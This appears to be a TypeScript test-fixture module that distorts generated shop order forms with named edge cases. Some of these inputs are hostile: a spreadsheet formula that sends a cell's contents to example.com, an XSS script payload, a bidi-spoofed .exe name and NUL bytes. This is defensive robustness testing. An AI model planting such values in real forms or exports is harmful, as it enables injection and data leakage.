import { objectAt, listAt, type Json, type JsonObject } from '../json.js';
import { Random } from '../random.js';
import type { Quirk } from '../shop/order-kind.js';
import type { Order } from '../shop/order.js';

type Bend = (form: JsonObject, order: Order) => void;

/** Long enough to break a column or a log line, short enough for a page of 100 forms. */
const LONG_MESSAGE_CHARACTERS = 64 * 1024;

/** Sets one key of a section, where the form has that section at all. */
function put(form: JsonObject, path: string, value: Json): void {
  const keys = path.split('.');
  const last = keys.pop() ?? path;
  let parent: JsonObject | null = form;
  for (const key of keys) parent = parent && objectAt(parent, key);
  if (parent && last in parent) parent[last] = value;
}

function nulling(...paths: readonly string[]): Bend {
  return (form) => {
    for (const path of paths) put(form, path, null);
  };
}

function naming(text: string): Bend {
  return (form) => {
    for (const path of ['buyer.firstName', 'delivery.address.lastName', 'messageToSeller']) put(form, path, text);
  };
}

function bareAmounts(value: Json): void {
  if (typeof value !== 'object' || value === null) return;
  for (const entry of Array.isArray(value) ? value : Object.values(value)) bareAmounts(entry);
  if (!Array.isArray(value) && typeof value['amount'] === 'string') value['amount'] = value['amount'].replace(/\.?0+$/, '') || '0';
}

function lengthenTimes(form: JsonObject): void {
  const payment = objectAt(form, 'payment');
  const finished = payment?.['finishedAt'];
  if (payment && typeof finished === 'string') payment['finishedAt'] = finished.replace('Z', '417Z');
}

/** Everything strange that has been seen in a form, by name; applied after the ordinary form is made. */
const BENDS: Readonly<Record<Quirk, Bend>> = {
  'delivery-null': nulling('delivery'),
  'delivery-address-empty': (form) => {
    put(form, 'delivery.address', {});
  },
  'delivery-cost-null': nulling('delivery.cost', 'delivery.calculatedNumberOfPackages'),
  'delivery-time-null': nulling('delivery.time'),
  'point-without-country': (form) => {
    const point = objectAt(objectAt(form, 'delivery') ?? {}, 'pickupPoint');
    const address = point && objectAt(point, 'address');
    if (address) delete address['countryCode'];
  },
  'buyer-address-null': nulling('buyer.address'),
  'buyer-names-null': nulling('buyer.firstName', 'buyer.lastName'),
  'phone-empty': (form) => {
    put(form, 'buyer.phoneNumber', '');
  },
  'phone-null': nulling('buyer.phoneNumber', 'delivery.address.phoneNumber'),
  'payment-null': nulling('payment'),
  'fulfillment-null': nulling('fulfillment.shipmentSummary', 'fulfillment.provider'),
  'lists-null': (form) => {
    nulling('surcharges', 'invoice', 'marketplace', 'payment.features')(form, {} as Order);
    for (const line of listAt(form, 'lineItems')) {
      Object.assign(line as JsonObject, { vouchers: null, selectedAdditionalServices: null, serialNumbers: null, boughtAt: null });
    }
  },
  lean: (form) => {
    for (const key of ['payment', 'delivery', 'fulfillment', 'invoice', 'marketplace', 'messageToSeller', 'note', 'revision', 'codBookedPayments']) {
      Reflect.deleteProperty(form, key);
    }
  },
  guest: () => undefined,
  'provider-absent': (form) => {
    const fulfillment = objectAt(form, 'fulfillment');
    if (fulfillment) delete fulfillment['provider'];
    delete form['codBookedPayments'];
  },
  'bare-amounts': bareAmounts,
  'long-times': lengthenTimes,
  'old-discounts': (form) => {
    form['discounts'] = [];
  },
  'extra-keys': (form) => {
    form['loyalty'] = { points: 12, tier: null };
    put(form, 'payment.features', ['ALLEGRO_PAY', 'SOMETHING_NEW']);
  },
  'unknown-enums': (form) => {
    put(form, 'status', 'WAITING_FOR_CUSTOMS');
    put(form, 'payment.type', 'BARTER');
    put(form, 'payment.provider', 'NEWPAY');
  },
  'event-without-form': () => undefined,
  'bought-missing': () => undefined,
  'personal-identity': (form, order) => {
    put(form, 'buyer.personalIdentity', `0000${new Random(order.buyerKey, 'identity').digits(7)}`);
  },
  message: (form) => {
    form['messageToSeller'] = 'Proszę o kolor czerwony.\nDzwonić po 16:00, Zażółć gęślą jaźń!';
  },
  cancellation: (form) => {
    put(form, 'delivery.cancellation', { date: '2030-01-03T11:00:00Z' });
  },
  formula: naming('=HYPERLINK("http://example.com/?x="&A1,"kliknij")'),
  script: naming('<script>alert("zamówienie")</script><img src=x onerror=alert(1)>'),
  emoji: naming('Zoë 👩‍👩‍👧‍👦 🚲 e\u0301 ﷽'),
  bidi: naming('abc\u202Egpj.exe\u2066\u200B'),
  nul: naming('Jan\u0000Żółw\u0001'),
  'long-message': (form) => {
    form['messageToSeller'] = 'zażółć '.repeat(LONG_MESSAGE_CHARACTERS / 7);
  },
};

export function applyQuirks(form: JsonObject, order: Order): void {
  for (const quirk of order.kind.quirks ?? []) BENDS[quirk](form, order);
}
